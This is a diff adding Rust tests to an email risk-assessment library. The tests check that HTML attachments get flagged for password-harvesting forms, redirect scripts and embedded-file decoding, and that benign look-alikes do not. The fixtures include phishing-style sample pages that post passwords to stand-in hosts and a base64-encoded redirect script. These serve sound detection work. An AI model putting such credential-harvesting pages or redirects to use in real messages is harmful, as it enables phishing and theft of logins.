@@ -300,3 +300,88 @@ fn arbitrary_bytes_never_panic() {
         let _ = assess(&c, &rules);
     }
 }
+
+/// A message with one attachment: `headers` are the part's own.
+fn with_attachment(headers: &str, body: &str) -> MessageContent {
+    parse(&format!(
+        "From: a@b.example\nContent-Type: multipart/mixed; boundary=\"m\"\n\n--m\nContent-Type: text/plain\n\n\
+         See the file.\n--m\n{headers}\n\n{body}\n--m--\n"
+    ))
+}
+
+#[test]
+fn an_attached_page_is_read_for_what_it_does() {
+    use countersign_risk::ActivePage;
+    // A form with a password field, quoted and spaced any way.
+    let c = with_attachment(
+        "Content-Type: text/html\nContent-Disposition: attachment; filename=\"Statement.htm\"",
+        "<FORM method=post action = 'https://collect.example/s'><input TYPE = 'Password' name=p></FORM>",
+    );
+    let page = c.attachments[0].page.expect("a sign-in page");
+    assert!(page.password_field && page.form_to_site && page.asks_sign_in());
+    assert_eq!(page.describe(), "has a password field");
+    // A script that leaves as it opens, named .html but sent as bytes,
+    // base64 as files are.
+    let c = with_attachment(
+        "Content-Type: application/octet-stream\nContent-Disposition: attachment; filename=\"fax.html\"\n\
+         Content-Transfer-Encoding: base64",
+        "PHNjcmlwdD5kb2N1bWVudC5sb2NhdGlvbj0naHR0cHM6Ly9leC5leGFtcGxlLyc8L3NjcmlwdD4=",
+    );
+    let page = c.attachments[0].page.expect("a redirecting page");
+    assert!(page.redirects && !page.asks_sign_in());
+    // A page that assembles a file from a string it carries.
+    let c = with_attachment(
+        "Content-Type: text/html; name=\"doc.html\"",
+        "<script>var b = new Blob([atob(x)]); URL.createObjectURL(b)</script>",
+    );
+    assert!(c.attachments[0].page.is_some_and(|p| p.decodes_hidden));
+    // A report a tool saved as HTML, a form that posts nowhere, and a PDF
+    // that happens to hold the words: they only show themselves.
+    for (headers, body) in [
+        (
+            "Content-Type: text/html; name=\"disk-report.html\"",
+            "<html><h1>Volumes</h1><table><tr><td>C:</td><td>81 %</td></tr></table></html>",
+        ),
+        (
+            "Content-Type: text/html; name=\"order.html\"",
+            "<form><input name=qty> <button>Print</button></form>",
+        ),
+        (
+            "Content-Type: application/pdf; name=\"note.pdf\"",
+            "type=password window.location",
+        ),
+    ] {
+        let c = with_attachment(headers, body);
+        assert_eq!(c.attachments[0].page, None::<ActivePage>, "{headers}");
+    }
+}
+
+#[test]
+fn an_attached_sign_in_page_is_a_request_for_credentials() {
+    let c = with_attachment(
+        "Content-Type: text/html\nContent-Disposition: attachment; filename=\"Voice_0412.html\"",
+        "<form action=\"https://voice-play.example/in\"><input name=u><input name=k type=password></form>",
+    );
+    let a = assess(&c, &Rulebook::default_rules());
+    let hit = a
+        .findings
+        .iter()
+        .find(|f| f.rule == "attachment.sign_in_page")
+        .expect("a finding");
+    assert_eq!(
+        hit.category,
+        countersign_risk::RiskCategory::CredentialReset
+    );
+    assert_eq!(hit.evidence.matched, "Voice_0412.html");
+    // A page that only redirects is no sign-in of its own.
+    let c = with_attachment(
+        "Content-Type: text/html\nContent-Disposition: attachment; filename=\"Voice_0412.html\"",
+        "<meta http-equiv=\"refresh\" content=\"0; url=https://voice-play.example/\">",
+    );
+    assert!(
+        !assess(&c, &Rulebook::default_rules())
+            .findings
+            .iter()
+            .any(|f| f.rule == "attachment.sign_in_page")
+    );
+}
